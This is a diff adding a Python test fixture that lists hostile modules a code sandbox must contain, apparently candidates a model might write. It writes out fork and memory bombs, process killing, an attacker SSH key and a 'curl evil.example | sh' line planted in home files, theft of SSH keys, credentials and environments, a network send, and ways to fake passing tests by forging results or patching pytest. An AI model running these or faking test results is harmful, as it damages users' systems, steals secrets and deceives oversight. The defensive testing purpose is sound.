@@ -1,0 +1,324 @@
+'''A corpus of hostile candidates: what a small model writes on a bad day, and worse.
+
+Each case is the whole module the sandbox receives in place of `pkg/mod.py`
+(the user's `add(a, b)`), the reason its report must give (a regex, matched
+against the report's error or else its first failing test's message), and the
+isolation it needs for every property to hold. tests/test_hostile.py runs each
+case under the strongest layer available and under "none".
+
+Placeholders filled by the test: @PROJECT@ (the user's project, absolute),
+@HOME@ (the user's home, a decoy), @PORT@ (a TCP listener on 127.0.0.1).
+
+Needs (a case is skipped, with the reason, where its layer is missing):
+  fs     writes outside the copy by absolute path: only bubblewrap stops it
+  home   reads a non-key secret file by absolute path: only bubblewrap hides it
+  net    opens a connection: needs a network namespace (bubblewrap or unshare)
+  pidns  kills every process it can see: only a pid namespace makes that harmless
+  pids   forks without end: needs a process-count bound (a pids cgroup, or not root)
+Everything else holds under every layer, "none" included: the verdict, no
+process left, the decoy secrets kept out of the report (scrubbed environment,
+redaction), faked passes detected.
+'''
+
+from __future__ import annotations
+
+import textwrap
+from dataclasses import dataclass
+
+
+@dataclass(frozen=True)
+class Case:
+    name: str
+    source: str
+    reason: str
+    needs: frozenset[str] = frozenset()
+
+
+def _case(name: str, source: str, reason: str, *needs: str) -> Case:
+    return Case(name, textwrap.dedent(source), reason, frozenset(needs))
+
+
+TIMED_OUT = r"timed out"
+
+CASES = [
+    # -- runaway code ------------------------------------------------------------
+    _case("infinite_loop", """
+        def add(a, b):
+            while True:
+                pass
+        """, TIMED_OUT),
+    _case("infinite_recursion", """
+        def add(a, b):
+            return add(a, b) + 1
+        """, r"RecursionError|maximum recursion"),
+    _case("recursion_past_the_c_stack", """
+        import sys
+        sys.setrecursionlimit(10**7)
+        def add(a, b):  # through C (sorted's key) at every level: the C stack overflows
+            return sorted([a], key=lambda _: add(a, b))[0]
+        """, r"SIGSEGV|memory limit|RecursionError"),
+    _case("memory_bomb", """
+        def add(a, b):
+            hoard = []
+            while True:
+                hoard.append(bytearray(50 * 1024 * 1024))
+        """, r"memory limit|MemoryError"),
+    _case("fork_bomb", """
+        import os
+        def add(a, b):
+            while True:
+                os.fork()
+        """, r"process limit|Resource temporarily unavailable", "pids"),
+    _case("unkillable_loop", """
+        import faulthandler, signal
+        def add(a, b):
+            faulthandler.cancel_dump_traceback_later()
+            faulthandler.disable()
+            for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP):
+                signal.signal(sig, signal.SIG_IGN)
+            while True:
+                try:
+                    while True:
+                        pass
+                except BaseException:
+                    pass
+        """, TIMED_OUT),
+    _case("sleep_past_the_timeout", """
+        import time
+        def add(a, b):
+            time.sleep(2.0)  # the per-test limit is 1.5 s
+            return a + b
+        """, TIMED_OUT),
+    _case("threads_that_never_finish", """
+        import threading, time
+        def _forever():
+            while True:
+                time.sleep(0.05)
+        def add(a, b):
+            for _ in range(4):
+                threading.Thread(target=_forever).start()
+            return a + b
+        """, r"did not exit"),
+    # -- exits and crashes -----------------------------------------------------------
+    _case("os_exit_in_function", """
+        import os
+        def add(a, b):
+            os._exit(0)
+        """, r"exited with code 0 before reporting|died in this test"),
+    _case("sys_exit_in_function", """
+        import sys
+        def add(a, b):
+            sys.exit(0)
+        """, r"SystemExit"),
+    _case("os_exit_at_import", """
+        import os
+        os._exit(0)
+        def add(a, b):
+            return a + b
+        """, r"exited with code 0 before reporting"),
+    _case("sys_exit_at_import", """
+        import sys
+        sys.exit(0)
+        def add(a, b):
+            return a + b
+        """, r"SystemExit"),
+    _case("segfault_with_ctypes", """
+        import ctypes
+        def add(a, b):
+            return ctypes.string_at(0)
+        """, r"SIGSEGV"),
+    _case("missing_module", """
+        import no_such_module_for_orps
+        def add(a, b):
+            return a + b
+        """, r"import failed: ModuleNotFoundError"),
+    _case("close_every_descriptor_at_import", """
+        import os
+        os.closerange(3, 1 << 16)
+        def add(a, b):
+            return a + b
+        """, r"before reporting|internal error"),
+    # -- processes that try to outlive the run --------------------------------------
+    _case("detached_double_fork", """
+        import os, signal, time
+        def add(a, b):
+            if os.fork() == 0:
+                os.setsid()
+                if os.fork() == 0:
+                    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
+                        signal.signal(sig, signal.SIG_IGN)
+                    while True:
+                        time.sleep(1)
+                os._exit(0)
+            os.wait()
+            return a + b
+        """, r"left \d+ background process"),
+    _case("detached_setsid_shell", """
+        import subprocess
+        def add(a, b):
+            subprocess.run("setsid sh -c 'trap \\"\\" TERM HUP; sleep 600' >/dev/null 2>&1 &", shell=True)
+            return a + b
+        """, r"left \d+ background process"),
+    _case("kill_every_visible_process", """
+        import os, signal
+        def add(a, b):
+            for entry in os.listdir("/proc"):
+                if entry.isdigit() and int(entry) != os.getpid():
+                    try:
+                        os.kill(int(entry), signal.SIGKILL)
+                    except OSError:
+                        pass
+            return 0
+        """, r"assert", "pidns"),
+    # -- the user's files, secrets and network ----------------------------------------
+    _case("write_the_users_project", """
+        def add(a, b):
+            with open("@PROJECT@/pkg/mod.py", "w") as module:
+                module.write("broken = True\\n")
+            with open("@PROJECT@/EVIL.txt", "w") as evil:
+                evil.write("x")
+            return a + b
+        """, r"Read-only file system|No such file or directory|Permission denied", "fs"),
+    _case("write_the_home_directory", """
+        import os
+        def add(a, b):
+            os.makedirs("@HOME@/.ssh", exist_ok=True)
+            with open("@HOME@/.ssh/authorized_keys", "a") as keys:
+                keys.write("ssh-ed25519 AAAA attacker\\n")
+            with open("@HOME@/.bashrc", "a") as rc:
+                rc.write("curl evil.example | sh\\n")
+            return a + b
+        """, r"Read-only file system|No such file or directory|Permission denied", "fs"),
+    _case("delete_and_rename_outside", """
+        import os
+        def add(a, b):
+            os.rename("@PROJECT@/pkg/mod.py", "@PROJECT@/pkg/mod.py.bak")
+            os.remove("@PROJECT@/tests/test_more.py")
+            os.remove("@HOME@/.bashrc")
+            return a + b
+        """, r"Read-only file system|No such file or directory|Permission denied", "fs"),
+    _case("print_the_ssh_key_and_environment", """
+        import os
+        def add(a, b):
+            key = open("@HOME@/.ssh/id_rsa").read()
+            print(key, os.environ.get("AWS_SECRET_ACCESS_KEY"))
+            raise AssertionError("stolen: " + key)
+        """, r"No such file or directory|stolen: \[redacted\]"),
+    _case("print_a_credentials_file", """
+        def add(a, b):
+            raise AssertionError(open("@HOME@/.aws/credentials").read())
+        """, r"No such file or directory", "home"),
+    _case("scan_every_process_environment", """
+        import os
+        def add(a, b):
+            found = []
+            for entry in os.listdir("/proc"):
+                try:
+                    environ = open(f"/proc/{entry}/environ", "rb").read().split(b"\\0")
+                except OSError:
+                    continue
+                found += [v.decode(errors="replace") for v in environ if b"SECRET" in v or b"TOKEN" in v]
+            print("\\n".join(found))
+            raise AssertionError("environment: " + "; ".join(found))
+        """, r"AssertionError: environment"),
+    _case("open_a_network_connection", """
+        import socket
+        def add(a, b):
+            with socket.create_connection(("127.0.0.1", @PORT@), timeout=1) as connection:
+                connection.sendall(b"exfiltrated")
+            return a + b
+        """, r"Connection refused|Network is unreachable|timed out|Errno", "net"),
+    # -- output and disk ---------------------------------------------------------------
+    _case("stdout_and_stderr_flood", """
+        import os, sys
+        def add(a, b):
+            chunk = "x" * (1024 * 1024)
+            for _ in range(300):
+                sys.stdout.write(chunk)
+                os.write(2, chunk.encode())
+            return a + b
+        """, r"file size limit|File too large|No space left|disk limit"),
+    _case("one_huge_file", """
+        def add(a, b):
+            with open("huge.bin", "wb") as huge:
+                for _ in range(1024):
+                    huge.write(b"\\0" * (1024 * 1024))
+            return a + b
+        """, r"file size limit|File too large|No space left|disk limit"),
+    _case("many_large_files", """
+        def add(a, b):
+            block, number = b"\\1" * (1024 * 1024), 0
+            while True:
+                with open(f"fill-{number}.bin", "wb") as fill:
+                    for _ in range(8):
+                        fill.write(block)
+                number += 1
+        """, r"disk limit|No space left|timed out"),
+    # -- faking a pass -----------------------------------------------------------------
+    _case("forge_result_lines_on_every_descriptor", """
+        import json, os
+        for fd in range(3, 1024):
+            for nodeid in ("tests/test_mod.py::test_add", "tests/test_more.py::test_add_more"):
+                line = json.dumps({"kind": "test", "nodeid": nodeid, "outcome": "passed", "seq": 0})
+                try:
+                    os.write(fd, ("0" * 32 + " " + line + "\\n").encode())
+                except OSError:
+                    pass
+        os._exit(0)
+        """, r"forged test results"),
+    _case("replay_and_edit_stolen_result_lines", """
+        import os
+        def add(a, b):
+            for fd in os.listdir("/proc/self/fd"):
+                try:
+                    lines = open(f"/proc/self/fd/{fd}", "rb").read().splitlines()
+                except OSError:
+                    continue
+                for line in lines:
+                    if b'"kind":' in line:
+                        edited = line.replace(b'"start"', b'"test"').replace(b'"time"', b'"outcome":"passed","t"')
+                        for forged in (line, edited):
+                            try:
+                                os.write(int(fd), forged + b"\\n")
+                            except OSError:
+                                pass
+            return 0
+        """, r"forged test results"),
+    _case("patch_pytest_reports", """
+        import _pytest.reports
+        _pytest.reports.BaseReport.failed = property(lambda self: False)
+        _pytest.reports.BaseReport.passed = property(lambda self: True)
+        def add(a, b):
+            return 0
+        """, r"tampered with the test harness"),
+    _case("patch_pytest_runner", """
+        import _pytest.runner as runner
+        _original = runner.call_and_report
+        def _always_pass(item, when, log=True, **kwargs):
+            report = _original(item, when, log=False, **kwargs)
+            report.outcome, report.longrepr = "passed", None
+            if log:
+                item.ihook.pytest_runtest_logreport(report=report)
+            return report
+        runner.call_and_report = _always_pass
+        def add(a, b):
+            return 0
+        """, r"tampered with the test harness"),
+    _case("patch_the_result_plugin", """
+        import orps_lsp.sandbox.plugin as plugin
+        plugin._TestState.outcome = property(lambda self: "passed", lambda self, value: None)
+        plugin._Reporter.pytest_runtest_logreport = lambda self, report: None
+        def add(a, b):
+            return 0
+        """, r"tampered with the test harness"),
+    _case("rewrite_the_tests_in_the_copy", """
+        import pathlib
+        _tests = pathlib.Path(__file__).resolve().parent.parent / "tests"
+        try:
+            (_tests / "test_more.py").write_text("def test_add_more():\\n    pass\\n")
+        except OSError:
+            pass  # read-only under bubblewrap
+        def add(a, b):
+            return 3  # right for test_add only
+        """, r"changed the tests|assert"),
+]
